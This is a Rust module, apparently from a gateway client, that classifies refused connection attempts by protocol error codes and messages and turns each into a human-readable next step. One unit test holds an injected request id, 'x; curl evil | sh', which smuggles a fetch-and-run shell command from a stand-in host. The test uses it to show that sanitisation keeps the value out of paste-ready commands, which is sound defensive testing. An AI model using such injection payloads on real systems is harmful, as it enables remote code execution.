//! Every refused `connect` as one typed value with its next step (PROTOCOL.md §3.4, §3.5, §4).

use std::time::Duration;

use crate::layer::{Layer, LayerError, Retry, printable};
use crate::protocol::error::{ErrorCode, RpcError};

/// The longest wait that a gateway may ask for.
const LONGEST_WAIT: Duration = Duration::from_secs(3600);

/// Why a gateway did not say hello.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RefusalKind {
    /// No common protocol version.
    Protocol,
    /// It is still starting.
    Starting,
    /// It wants a token and got none.
    TokenMissing,
    /// The token is wrong.
    TokenWrong,
    /// It wants a password and got none.
    PasswordMissing,
    /// The password is wrong.
    PasswordWrong,
    /// The stored device token is not good any more.
    DeviceTokenWrong,
    /// The device token is good, but for fewer scopes.
    ScopesWrong,
    /// Too many failed tries.
    RateLimited,
    /// A person has to approve this device.
    Pairing,
    /// The proof of the device was refused.
    DeviceProof,
    /// Something else.
    Other,
}

/// A refused `connect`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// Why.
    pub kind: RefusalKind,
    /// For people.
    pub error: LayerError,
    /// The pairing request that waits for approval.
    pub request_id: Option<String>,
    /// The gateway says that a stored device token may work instead.
    pub may_use_device_token: bool,
    /// When the gateway will listen again, where it says so.
    pub retry_after: Option<Duration>,
}

impl Refusal {
    /// Reads the error of a `connect`.
    pub fn from_rpc(error: &RpcError) -> Self {
        let kind = classify(error);
        let request_id = error.detail("requestId").map(|id| printable(id, 64));
        let flagged = error
            .details
            .as_ref()
            .and_then(|details| details.get("canRetryWithDeviceToken")?.as_bool())
            .unwrap_or(false);
        let suggested = error.detail("recommendedNextStep") == Some("retry_with_device_token");
        Self {
            kind,
            error: explain(kind, error, request_id.as_deref()),
            request_id,
            may_use_device_token: flagged || suggested,
            retry_after: error.retry_after_ms.map(|ms| {
                // A second more than the gateway says, and no peer parks us for more than an hour.
                Duration::from_millis(ms.saturating_add(1_000)).min(LONGEST_WAIT)
            }),
        }
    }
}

/// Version 4 is read by `details.code`, version 3 by its words.
fn classify(error: &RpcError) -> RefusalKind {
    let words = error.message.as_str();
    let says = |part: &str| words.contains(part);
    match error.detail_code() {
        Some("PROTOCOL_MISMATCH" | "CLIENT_VERSION_MISMATCH") => return RefusalKind::Protocol,
        Some("AUTH_TOKEN_MISSING" | "AUTH_REQUIRED") => return RefusalKind::TokenMissing,
        Some("AUTH_TOKEN_MISMATCH") => return RefusalKind::TokenWrong,
        Some("AUTH_PASSWORD_MISSING") => return RefusalKind::PasswordMissing,
        Some("AUTH_PASSWORD_MISMATCH") => return RefusalKind::PasswordWrong,
        Some("AUTH_DEVICE_TOKEN_MISMATCH") => return RefusalKind::DeviceTokenWrong,
        Some("AUTH_SCOPE_MISMATCH") => return RefusalKind::ScopesWrong,
        Some("AUTH_RATE_LIMITED") => return RefusalKind::RateLimited,
        Some("PAIRING_REQUIRED") => return RefusalKind::Pairing,
        Some(code) if code.starts_with("DEVICE_") => return RefusalKind::DeviceProof,
        _ => {}
    }
    if error.code == ErrorCode::Unavailable && error.retryable == Some(true) {
        RefusalKind::Starting
    } else if says("protocol mismatch") {
        RefusalKind::Protocol
    } else if says("pairing required") {
        RefusalKind::Pairing
    } else if says("too many failed") {
        RefusalKind::RateLimited
    } else if says("device token mismatch") {
        RefusalKind::DeviceTokenWrong
    } else if says("token missing") {
        RefusalKind::TokenMissing
    } else if says("token mismatch") {
        RefusalKind::TokenWrong
    } else if says("password missing") {
        RefusalKind::PasswordMissing
    } else if says("password mismatch") {
        RefusalKind::PasswordWrong
    } else if says("device ") {
        RefusalKind::DeviceProof
    } else {
        RefusalKind::Other
    }
}

fn explain(kind: RefusalKind, error: &RpcError, request_id: Option<&str>) -> LayerError {
    let (layer, what, next, retry) = match kind {
        RefusalKind::Protocol => (
            Layer::Hello,
            "the gateway speaks another protocol version; versions 3 and 4 are spoken here".to_owned(),
            "update the older side".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::Starting => (
            Layer::Hello,
            "the gateway is still starting".to_owned(),
            String::new(),
            Retry::Soon,
        ),
        RefusalKind::TokenMissing => (
            Layer::Token,
            "the gateway wants its token".to_owned(),
            "pass --token, or set CLAWLINE_GATEWAY_TOKEN; on the gateway's machine clawline-gateway token prints it (OpenClaw: gateway.auth.token)"
                .to_owned(),
            Retry::Attention,
        ),
        RefusalKind::TokenWrong => (
            Layer::Token,
            "the gateway does not accept this token".to_owned(),
            "compare it with what clawline-gateway token prints on the gateway's machine (OpenClaw: gateway.auth.token)".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::PasswordMissing => (
            Layer::Token,
            "the gateway wants its password".to_owned(),
            "pass --password".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::PasswordWrong => (
            Layer::Token,
            "the gateway does not accept this password".to_owned(),
            "compare it with gateway.auth.password on the gateway's machine".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::DeviceTokenWrong => (
            Layer::Token,
            "the gateway does not know this device's token any more".to_owned(),
            "connect once with the gateway's own token (--token) to get a new one".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::ScopesWrong => (
            Layer::Token,
            "this device's token is for fewer rights than asked for".to_owned(),
            "connect once with the gateway's own token (--token)".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::RateLimited => (
            Layer::Token,
            match error.retry_after_ms {
                Some(ms) => format!(
                    "the gateway locked sign-ins after too many failures; open again in {} s",
                    ms.div_ceil(1000)
                ),
                None => "the gateway locked sign-ins after too many failures".to_owned(),
            },
            "wait, then try again with the right token".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::Pairing => (
            Layer::Pairing,
            "the gateway waits for someone to approve this device".to_owned(),
            approve_commands(request_id),
            Retry::Attention,
        ),
        RefusalKind::DeviceProof => (
            Layer::Hello,
            "the gateway refused this device's proof".to_owned(),
            "check the clock of both machines, then try again".to_owned(),
            Retry::Attention,
        ),
        RefusalKind::Other => (
            Layer::Hello,
            "the gateway refused the connection".to_owned(),
            String::new(),
            if error.code == ErrorCode::Unavailable || error.retryable == Some(true) {
                Retry::Backoff
            } else {
                Retry::Attention
            },
        ),
    };
    LayerError::new(layer, what)
        .peer(&error.message)
        .next(next)
        .retry(retry)
}

fn approve_commands(request_id: Option<&str>) -> String {
    // The id comes from the gateway: only what an id can be is put into a command to paste.
    let id = request_id
        .filter(|id| !id.is_empty() && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'));
    match id {
        Some(id) => format!(
            "on the gateway's machine: clawline-gateway devices approve {id} (or: openclaw devices approve {id})"
        ),
        None => "on the gateway's machine: clawline-gateway devices list, then approve".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::frame::Frame;

    /// The refusals in a recorded file.
    fn recorded(text: &str) -> Vec<RpcError> {
        text.lines()
            .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
            .filter_map(|line| Frame::parse(&line.get("frame")?.to_string()).ok())
            .filter_map(|frame| match frame {
                Frame::Response(response) => response.error,
                _ => None,
            })
            .collect()
    }

    #[test]
    fn recorded_refusals_of_both_versions_are_told_apart() {
        let cases = [
            (
                include_str!("../../tests/data/frames/v3/wire-auth-no-auth-with-device.jsonl"),
                RefusalKind::TokenMissing,
            ),
            (
                include_str!("../../tests/data/frames/v4/wire-auth-no-auth-with-device.jsonl"),
                RefusalKind::TokenMissing,
            ),
            (
                include_str!("../../tests/data/frames/v3/wire-auth-wrong-token-with-device.jsonl"),
                RefusalKind::DeviceTokenWrong,
            ),
            (
                include_str!("../../tests/data/frames/v4/wire-auth-wrong-token-with-device.jsonl"),
                RefusalKind::TokenWrong,
            ),
            (
                include_str!("../../tests/data/frames/v3/wire-auth-sig-v3.jsonl"),
                RefusalKind::DeviceProof,
            ),
        ];
        for (text, kind) in cases {
            let errors = recorded(text);
            let error = errors.last().expect("a refusal was recorded");
            assert_eq!(Refusal::from_rpc(error).kind, kind, "{}", error.message);
        }
    }

    #[test]
    fn a_rate_limit_and_a_pairing_request_say_what_to_do() {
        for text in [
            include_str!("../../tests/data/frames/v3/wire-auth-rate-limit.jsonl"),
            include_str!("../../tests/data/frames/v4/wire-auth-rate-limit.jsonl"),
        ] {
            let kinds: Vec<_> = recorded(text)
                .iter()
                .map(|error| Refusal::from_rpc(error).kind)
                .collect();
            assert!(kinds.contains(&RefusalKind::RateLimited), "{kinds:?}");
        }
        for text in [
            include_str!("../../tests/data/frames/v3/wire-device-pairing.jsonl"),
            include_str!("../../tests/data/frames/v4/wire-device-pairing.jsonl"),
        ] {
            let refusal = recorded(text)
                .iter()
                .map(Refusal::from_rpc)
                .find(|refusal| refusal.kind == RefusalKind::Pairing)
                .expect("a pairing request was recorded");
            let id = refusal.request_id.expect("request id");
            assert!(
                refusal
                    .error
                    .next
                    .contains(&format!("devices approve {id}"))
            );
        }
    }

    #[test]
    fn a_hostile_request_id_never_becomes_a_command() {
        let error = RpcError::new(ErrorCode::NotPaired, "pairing required")
            .details(serde_json::json!({"requestId": "x; curl evil | sh"}));
        let refusal = Refusal::from_rpc(&error);
        assert!(
            !refusal.error.next.contains("curl"),
            "{}",
            refusal.error.next
        );
    }
}
